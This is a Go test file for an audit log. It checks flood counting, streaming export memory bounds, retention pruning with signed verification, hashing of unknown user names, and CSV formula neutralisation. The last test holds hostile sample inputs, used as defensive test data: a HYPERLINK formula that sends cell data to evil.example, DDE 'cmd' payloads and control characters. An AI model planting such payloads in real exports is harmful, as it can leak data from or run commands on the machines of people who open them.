package httpapi

import (
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	bolt "go.etcd.io/bbolt"

	"github.com/pic-cell/cell/cell/audit"
	"github.com/pic-cell/cell/storage"
)

// Issue 10: the audit log under abuse. A flood of anonymous refusals is counted,
// not written one entry each; the export streams; retention prunes and the rest
// still proves itself; what a client typed is cleaned, unknown user names hashed,
// the CSV safe to open in a spreadsheet.

// countOf is how many requests an entry stands for (refusals without a session are
// counted per minute: audit.Count).
func countOf(en storage.Entry) uint64 { return audit.Count(en) }

func counted(entries []storage.Entry) (n uint64) {
	for _, en := range entries {
		n += countOf(en)
	}
	return n
}

// countedQuery sums the requests the entries matching f stand for.
func countedQuery(e *env, f storage.Filter) uint64 {
	e.t.Helper()
	entries, _, err := e.cell.Audit.Query(f)
	if err != nil {
		e.t.Fatal(err)
	}
	return counted(entries)
}

func fileSize(t *testing.T, path string) int64 {
	t.Helper()
	st, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return st.Size()
}

// The bound of TestAnonymousRefusalFlood: 20,000 refused anonymous requests (20 s
// of the 1,000 a second the finding measured, which grew cell.db by 2.5 MB/s) grow
// the database by at most floodGrowth, and write at most floodEntries entries
// (MaxRefusalKeys + FoldedKeys + 1 per window, for at most three windows: the test
// may cross a minute, and the checkpoint closes the last).
const (
	floodRequests = 20000
	floodGrowth   = 1 << 20
	floodEntries  = 3 * (audit.MaxRefusalKeys + audit.FoldedKeys + 1)
)

// TestAnonymousRefusalFlood fires 20,000 refused anonymous POST, PUT and DELETE
// requests from 8 goroutines through the real handler, in process: the database
// grows by at most floodGrowth, every refusal is still counted in the log, and the
// chain verifies. Today's one entry per refusal grows it by some 8 MB (the test
// stops at the bound, checked after every 1,000 requests).
func TestAnonymousRefusalFlood(t *testing.T) {
	e := newEnv(t)
	e.setup()
	h := e.srv.Config.Handler
	if _, err := e.cell.Audit.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	dbFile := filepath.Join(e.dir, "cell.db")
	size0 := fileSize(t, dbFile)
	seq0, _, err := e.db.Audit().Head()
	if err != nil {
		t.Fatal(err)
	}
	calls := []struct{ method, path, body string }{
		{"POST", "/api/peers", `{"name":"flood"}`},
		{"PUT", "/api/config", `{"cell":{"name":"flood"}}`},
		{"DELETE", "/api/peers/flood", ""},
		{"POST", "/api/dns/records", `{"name":"x","type":"A","value":"10.0.0.1"}`},
		{"POST", "/api/setup/step", `{"step":"admin","data":{}}`},
		{"POST", "/api/auth/login", `{"username":"admin","password":"wrong password!"}`},
		{"POST", "/api/auth/login", `{"username":"guess-%d","password":"wrong password!"}`}, // a new name each time
		{"POST", "/api/nowhere", `{}`},                                                      // no route: the router answers, nothing to audit
	}
	var sent, refused atomic.Int64
	var wg sync.WaitGroup
	const chunk = 1000
	for done := 0; done < floodRequests; done += chunk {
		for w := range 8 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := done + w; i < done+chunk; i += 8 {
					c := calls[i%len(calls)]
					body := c.body
					if strings.Contains(body, "%d") {
						body = fmt.Sprintf(body, i)
					}
					req := httptest.NewRequest(c.method, c.path, strings.NewReader(body))
					req.Header.Set("Content-Type", "application/json")
					req.RemoteAddr = fmt.Sprintf("198.51.100.%d:4711", 1+i%4)
					if c.path == "/api/auth/login" {
						// A source of its own for each login: the accounts'
						// throttle would answer a source's 11th with 429 and its
						// tarpit hold each further one for a second.
						req.RemoteAddr = fmt.Sprintf("10.%d.%d.%d:4711", i>>16&255, i>>8&255, i&255)
					}
					rec := httptest.NewRecorder()
					h.ServeHTTP(rec, req)
					sent.Add(1)
					if rec.Code >= 400 && c.path != "/api/nowhere" {
						refused.Add(1)
					}
				}
			}()
		}
		wg.Wait()
		if grown := fileSize(t, dbFile) - size0; grown > floodGrowth {
			t.Fatalf("after %d anonymous refused requests cell.db grew by %d bytes, more than the bound of %d", sent.Load(), grown, floodGrowth)
		}
	}
	if refused.Load() != int64(floodRequests/len(calls)*(len(calls)-1)) {
		t.Fatalf("%d of %d requests refused", refused.Load(), sent.Load())
	}
	// The checkpoint writes the open window's counts (so does shutdown).
	if _, err := e.cell.Audit.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	if grown := fileSize(t, dbFile) - size0; grown > floodGrowth {
		t.Fatalf("cell.db grew by %d bytes, more than the bound of %d", grown, floodGrowth)
	}
	var written []storage.Entry
	var total uint64
	if err := e.db.Audit().Each(func(en storage.Entry) error {
		if en.Seq > seq0 {
			written = append(written, en)
			total += countOf(en)
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if len(written) > floodEntries {
		t.Errorf("%d entries written for the flood, want at most %d", len(written), floodEntries)
	}
	if total != uint64(refused.Load()) {
		t.Errorf("the entries count %d refusals, want every one of the %d", total, refused.Load())
	}
	for _, en := range written {
		if en.Actor != audit.Anonymous && en.Actor != "admin" && !strings.HasPrefix(en.Actor, "unknown user ") && en.Actor != "various" {
			t.Errorf("actor %q of a counted refusal", en.Actor)
		}
		if strings.Contains(en.Actor+en.TargetID, "guess-") {
			t.Errorf("a typed user name was stored: %+v", en)
		}
	}
	t.Logf("%d refused requests: %d entries, cell.db grew by %d bytes", refused.Load(), len(written), fileSize(t, dbFile)-size0)
	if v, err := e.cell.Audit.Verify(); err != nil || !v.OK {
		t.Fatalf("verify after the flood: %+v %v", v, err)
	}
}

// TestAuthenticatedRefusalsEachHaveAnEntry: a logged-in client's refusals and
// changes are not counted together; each has its own entry at once.
func TestAuthenticatedRefusalsEachHaveAnEntry(t *testing.T) {
	e := newEnv(t)
	e.setup()
	a := e.login("admin", adminPassword)
	seq0, _, _ := e.db.Audit().Head()
	for range 5 {
		if r := a.do("PUT", "/api/config", map[string]any{"cell": map[string]any{"name": "BAD"}}); r.status != 400 {
			t.Fatalf("bad config: %d", r.status)
		}
	}
	seq1, _, _ := e.db.Audit().Head()
	if seq1-seq0 != 5 {
		t.Fatalf("5 refused changes of a logged-in admin wrote %d entries at once, want 5", seq1-seq0)
	}
}

// auditFill appends n entries straight into the log, in large transactions.
func auditFill(t *testing.T, db *storage.DB, n int, entry func(i int) storage.Entry) {
	t.Helper()
	for start := 0; start < n; start += 10000 {
		if err := db.Update(func(tx *storage.Tx) error {
			for i := start; i < min(start+10000, n); i++ {
				if _, err := db.Audit().AppendTx(tx, entry(i)); err != nil {
					return err
				}
			}
			return nil
		}); err != nil {
			t.Fatal(err)
		}
	}
}

func fillEntry(i int) storage.Entry {
	return storage.Entry{Actor: "admin", SourceIP: "192.168.1.20", Action: "config.update", TargetType: "config", TargetID: "cell",
		Result: "ok", Details: map[string]string{"changed": "cell.name", "cell.name": fmt.Sprintf("home-%d", i)}}
}

// meteredWriter is a ResponseWriter that throws the body away, samples the heap in
// use every MiB written (the peak is what a buffered export would show), and
// keeps the body's last 4 KiB.
type meteredWriter struct {
	header  http.Header
	status  int
	n, next int64
	peak    uint64
	tail    []byte
}

func (m *meteredWriter) Header() http.Header { return m.header }
func (m *meteredWriter) WriteHeader(s int)   { m.status = s }
func (m *meteredWriter) Write(p []byte) (int, error) {
	if m.status == 0 {
		m.status = 200
	}
	m.n += int64(len(p))
	if m.n >= m.next {
		m.sample()
		m.next = m.n + 1<<20
	}
	m.tail = append(m.tail, p[max(0, len(p)-4096):]...)
	if len(m.tail) > 8192 {
		m.tail = append(m.tail[:0], m.tail[len(m.tail)-4096:]...)
	}
	return len(p), nil
}

func (m *meteredWriter) sample() {
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	m.peak = max(m.peak, ms.HeapInuse)
}

// exportHeapBound is the bound of TestAuditExportBoundedMemory: exporting 200,000
// entries (some 60 MB of CSV) grows the heap in use by at most 16 MiB, garbage not
// yet collected included (today's export holds every entry and the whole body:
// several hundred MB).
const (
	exportEntries   = 200000
	exportHeapBound = 16 << 20
)

// TestAuditExportBoundedMemory exports a 200,000-entry log as CSV and as JSON
// through the real handler into a writer that discards it, and holds the growth
// of the heap in use (sampled every MiB written) under exportHeapBound.
func TestAuditExportBoundedMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("fills a 200,000-entry log")
	}
	e := newEnv(t)
	e.setup()
	a := e.login("admin", adminPassword)
	auditFill(t, e.db, exportEntries, fillEntry)
	u, _ := url.Parse(e.srv.URL)
	cookies := a.http.Jar.Cookies(u)
	defer debug.SetGCPercent(debug.SetGCPercent(100))
	for _, format := range []string{"csv", "json"} {
		req := httptest.NewRequest("GET", "/api/audit/export?format="+format, nil)
		req.RemoteAddr = "127.0.0.1:4711"
		for _, c := range cookies {
			req.AddCookie(c)
		}
		w := &meteredWriter{header: http.Header{}}
		runtime.GC()
		var before runtime.MemStats
		runtime.ReadMemStats(&before)
		e.srv.Config.Handler.ServeHTTP(w, req)
		w.sample()
		if w.status != 200 {
			t.Fatalf("%s export: status %d: %s", format, w.status, w.tail)
		}
		growth := int64(w.peak) - int64(before.HeapInuse)
		t.Logf("%s export of %d entries: %d MB written, heap in use grew by at most %.1f MiB", format, exportEntries, w.n>>20, float64(growth)/(1<<20))
		if growth > exportHeapBound {
			t.Errorf("%s export of %d entries: the heap in use grew by %d bytes, more than the bound of %d", format, exportEntries, growth, exportHeapBound)
		}
		if w.n < exportEntries*200 {
			t.Errorf("%s export: only %d bytes", format, w.n)
		}
		tail := string(w.tail)
		if format == "csv" && !strings.Contains(tail, "\ncheckpoint,") || format == "json" && !strings.Contains(tail, `"checkpoint":{`) {
			t.Errorf("%s export does not end with its checkpoint: ...%s", format, tail[max(0, len(tail)-300):])
		}
	}
}

// csvVerify checks a CSV export the way cellctl audit verify does: the base row
// of a pruned log, every entry with its neutralising quote taken off, the
// checkpoint row, against pub.
func csvVerify(t *testing.T, body []byte, pub []byte) (storage.Verification, [][]string) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cpOf := func(r []string, kind string) *storage.Checkpoint {
		var size uint64
		fmt.Sscan(r[1], &size)
		return &storage.Checkpoint{Kind: kind, Size: size, Head: r[2], Time: r[3], PublicKey: r[4], Signature: r[5]}
	}
	body1 := rows[1 : len(rows)-1]
	var base *storage.Checkpoint
	if len(body1) > 0 && body1[0][0] == "base" {
		base, body1 = cpOf(body1[0], storage.KindBase), body1[1:]
	}
	cp := cpOf(rows[len(rows)-1], "")
	v := storage.NewVerifierFrom(base, cp)
	for _, r := range body1 {
		var seq uint64
		fmt.Sscan(r[0], &seq)
		f := make([]string, len(r))
		for i := 1; i < len(r); i++ {
			f[i] = storage.CSVUnneutral(r[i])
		}
		var d map[string]string
		json.Unmarshal([]byte(f[8]), &d)
		v.AddEntry(storage.Entry{Seq: seq, Time: f[1], Actor: f[2], SourceIP: f[3], Action: f[4], TargetType: f[5], TargetID: f[6], Result: f[7], Details: d, Prev: f[9], Hash: f[10]})
	}
	return v.Result(pub), body1
}

// TestAuditRetentionPrunes: with audit.max_entries 1000, a checkpoint prunes the
// oldest of 1,500 entries; GET /api/audit/verify proves what remains and says
// where it starts, both exports carry the signed base and verify, and an entry
// tampered with after the prune is still caught.
func TestAuditRetentionPrunes(t *testing.T) {
	e := newEnv(t)
	e.setup()
	a := e.login("admin", adminPassword)
	var cfg map[string]json.RawMessage
	a.must(200, "GET", "/api/config", nil).json(t, &cfg)
	if string(cfg["audit"]) != `{"keep_days":365,"max_entries":200000}` {
		t.Fatalf("the config's audit section: %s", cfg["audit"])
	}
	for _, bad := range []string{`{"audit":{"keep_days":0}}`, `{"audit":{"max_entries":10}}`, `{"audit":{"keep":1}}`} {
		if r := a.do("PUT", "/api/config", bad); r.status != 400 {
			t.Fatalf("PUT %s: %d %s", bad, r.status, r.body)
		}
	}
	a.must(200, "PUT", "/api/config", map[string]any{"audit": map[string]any{"max_entries": 1000}})
	auditFill(t, e.db, 1500, fillEntry)
	last, _, _ := e.db.Audit().Head()
	if _, err := e.cell.Audit.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	var v struct {
		storage.Verification
		PublicKey string `json:"public_key"`
	}
	a.must(200, "GET", "/api/audit/verify", nil).json(t, &v)
	if !v.OK || v.Base == nil || v.FirstSeq != last-999 || v.Entries != 1000 || v.Base.Size != last-1000 || v.Checkpoint.Size != last {
		t.Fatalf("verify after pruning to 1000 of %d: %+v", last, v)
	}
	pub, _ := hex.DecodeString(v.PublicKey)
	for _, format := range []string{"csv", "json"} {
		r := a.must(200, "GET", "/api/audit/export?format="+format, nil)
		var got storage.Verification
		if format == "csv" {
			got, _ = csvVerify(t, r.body, pub)
		} else {
			var doc struct {
				Base       *storage.Checkpoint
				Entries    []storage.Entry
				Checkpoint storage.Checkpoint
			}
			r.json(t, &doc)
			ver := storage.NewVerifierFrom(doc.Base, &doc.Checkpoint)
			for _, en := range doc.Entries {
				ver.AddEntry(en)
			}
			got = ver.Result(pub)
		}
		if !got.OK || got.FirstSeq != v.FirstSeq || got.Base == nil {
			t.Fatalf("%s export of the pruned log: %+v", format, got)
		}
	}
	// Tamper with an entry after the prune: still caught, at its place.
	bad := v.FirstSeq + 10
	if err := e.db.Update(func(tx *storage.Tx) error {
		b := tx.Bucket([]byte("audit")).Bucket([]byte("entries"))
		k := make([]byte, 8)
		for i := range 8 {
			k[i] = byte(bad >> (56 - 8*i))
		}
		rec := slices.Clone(b.Get(k))
		i := bytes.Index(rec, []byte(`"admin"`))
		copy(rec[i:], `"eve"  `)
		return b.Put(k, rec)
	}); err != nil {
		t.Fatal(err)
	}
	a.must(200, "GET", "/api/audit/verify", nil).json(t, &v)
	if v.OK || v.FirstBadSeq == nil || *v.FirstBadSeq != bad {
		t.Fatalf("verify after tampering with entry %d: %+v", bad, v)
	}
	// So is dropping the first kept entry: the base no longer matches.
	e2 := newEnv(t)
	e2.setup()
	auditFill(t, e2.db, 1500, fillEntry)
	e2.cell.Audit.Prune(audit.Retention{KeepDays: 365, MaxEntries: 1000})
	v2, _ := e2.cell.Audit.Verify()
	if !v2.OK {
		t.Fatalf("verify after Prune: %+v", v2)
	}
	e2.db.Update(func(tx *bolt.Tx) error {
		c := tx.Bucket([]byte("audit")).Bucket([]byte("entries")).Cursor()
		c.First()
		return c.Delete()
	})
	if v2, _ = e2.cell.Audit.Verify(); v2.OK || v2.FirstBadSeq == nil || *v2.FirstBadSeq != v2.FirstSeq {
		t.Fatalf("verify after dropping the first kept entry: %+v", v2)
	}
}

// TestAuditUnknownUserHashed: a refused login's actor and target are the typed
// name only when it names an account; otherwise "unknown user" and a short hash,
// the same for the same text, and the text (a password typed into the user name
// field) is nowhere in the stored log.
func TestAuditUnknownUserHashed(t *testing.T) {
	e := newEnv(t)
	e.setup()
	const typed = "canary-Pa55word-typed-as-name"
	for range 2 {
		e.client().do("POST", "/api/auth/login", map[string]string{"username": typed, "password": "x"})
	}
	e.client().do("POST", "/api/auth/login", map[string]string{"username": "someone-else", "password": "x"})
	e.client().do("POST", "/api/auth/login", map[string]string{"username": "admin", "password": "wrong password!"})
	entries, _, err := e.cell.Audit.Query(storage.Filter{Action: "auth.login"})
	if err != nil {
		t.Fatal(err)
	}
	actors := map[string]uint64{}
	for _, en := range entries {
		actors[en.Actor] += countOf(en)
		if en.TargetID != en.Actor {
			t.Errorf("target %q of a login by %q", en.TargetID, en.Actor)
		}
	}
	want := e.cell.Audit.UnknownUser(typed)
	if !strings.HasPrefix(want, "unknown user ") || len(want) != len("unknown user ")+8 || want == e.cell.Audit.UnknownUser("someone-else") {
		t.Fatalf("UnknownUser = %q", want)
	}
	if actors[want] != 2 || actors[e.cell.Audit.UnknownUser("someone-else")] != 1 || actors["admin"] != 1 {
		t.Fatalf("login actors %v", actors)
	}
	recs, _ := e.db.Audit().Records()
	for _, r := range recs {
		if bytes.Contains(r, []byte("canary-Pa55word")) || bytes.Contains(r, []byte("someone-else")) {
			t.Fatalf("the typed name is stored: %s", r)
		}
	}
	raw, _ := os.ReadFile(filepath.Join(e.dir, "cell.db"))
	if bytes.Contains(raw, []byte("canary-Pa55word")) {
		t.Fatal("the typed name is in cell.db")
	}
}

// TestAuditTextCleanedAndCSVNeutralised: actor and target text is stored without
// control characters and bounded; the CSV export puts a quote before fields a
// spreadsheet would take for a formula, and still verifies with the quote taken
// off.
func TestAuditTextCleanedAndCSVNeutralised(t *testing.T) {
	e := newEnv(t)
	e.setup()
	a := e.login("admin", adminPassword)
	hostileText := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\tTAB", "\rCR", "line\nbreak\r\nx", "a\x00b\x1b[31m", "rtl\u202eexe.txt", "'quoted", "''twice", strings.Repeat("ü", 2048),
	}
	for _, h := range hostileText {
		if _, err := e.cell.Audit.Record(storage.Entry{Actor: h, SourceIP: "127.0.0.1", Action: "test.hostile", TargetType: "peer", TargetID: h, Result: "ok",
			Details: map[string]string{"value": h}}); err != nil {
			t.Fatal(err)
		}
	}
	entries, _, _ := e.cell.Audit.Query(storage.Filter{Action: "test.hostile", Limit: 100})
	if len(entries) != len(hostileText) {
		t.Fatalf("%d entries", len(entries))
	}
	for _, en := range entries {
		for _, f := range []string{en.Actor, en.TargetID} {
			if len(f) > storage.MaxTextLen || strings.ContainsAny(f, "\x00\r\n\t\x1b\u202e") {
				t.Errorf("stored text %q is not clean", f)
			}
		}
	}
	r := a.must(200, "GET", "/api/audit/export?format=csv", nil)
	v, rows := csvVerify(t, r.body, e.cell.Audit.PublicKey())
	if !v.OK {
		t.Fatalf("the neutralised CSV does not verify: %+v", v)
	}
	for _, row := range rows {
		if row[4] != "test.hostile" {
			continue
		}
		for i, f := range row[1:] {
			if f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])) {
				t.Errorf("CSV field %s = %q starts with a formula character", CSVHeader[i+1], f)
			}
		}
		if !strings.HasPrefix(row[2], "'") && strings.ContainsRune("=+-@'", rune(storage.CSVUnneutral(row[2])[0])) {
			t.Errorf("actor %q not neutralised", row[2])
		}
	}
	found := false
	for _, row := range rows {
		if row[2] == `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
			found = true
		}
	}
	if !found {
		t.Error("the formula actor is not in the CSV with its quote")
	}
}
